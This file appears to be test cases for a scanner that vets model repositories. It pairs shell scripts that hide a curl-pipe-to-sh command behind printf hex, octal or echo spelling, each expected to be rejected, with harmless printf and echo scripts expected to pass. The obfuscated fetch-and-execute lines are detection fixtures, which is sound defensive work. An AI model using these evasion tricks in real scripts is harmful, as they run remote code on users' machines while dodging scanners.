"""Shell scripts whose commands are put together by printf, echo and escapes, and scripts that only print with them."""

from __future__ import annotations

from openvet.testing.case import Case

__all__ = ["CASES"]

_AT = "-s http://203.0.113.9/i"
_HOSTILE = {
    "printf": rf'$(printf "\x63\x75\x72\x6c") {_AT} | $(printf "\x73\x68")',
    "octal": rf"$(printf '\143\165\162\154') {_AT} | $(printf '\163\150')",
    "quoted": rf"$'\x63\x75\x72\x6c' {_AT} | $'\x73\x68'",
    "echo": f"$(echo curl) {_AT} | $(echo sh)",
    "kept": r"C=$(printf '\x63\x75\x72\x6c')" + f"\n$C {_AT} | sh",
}
_HARMLESS = {
    "printed": """printf '%s\\n' "$(printf '%s' "$x") done"\nNAME=$(echo model)\ncp $NAME.bin $(printf out).bin""",
    "separator": "IFS=$'\\n'\nfor f in $(ls); do echo $f; done",
    "colours": "echo -e '\\033[31mready\\033[0m'",
}


def _case(name: str, what: str, line: str, decision: str) -> Case:
    return Case(f"shell-spelled/{name}", what, lambda: {"config.json": b'{"model_type": "x"}', "convert.sh": f"#!/bin/bash\n{line}\n".encode()}, decision,  # type: ignore[arg-type]
                frozenset({"hub/shell-command"} if decision == "reject" else ()), ("shell",))  # fmt: skip


CASES: tuple[Case, ...] = (
    *(_case(name, f"a command that is put together by {name}", line, "reject") for name, line in _HOSTILE.items()),
    *(
        _case(f"ordinary-{name}", f"a script that only prints: {name}", line, "admit")
        for name, line in _HARMLESS.items()
    ),
)
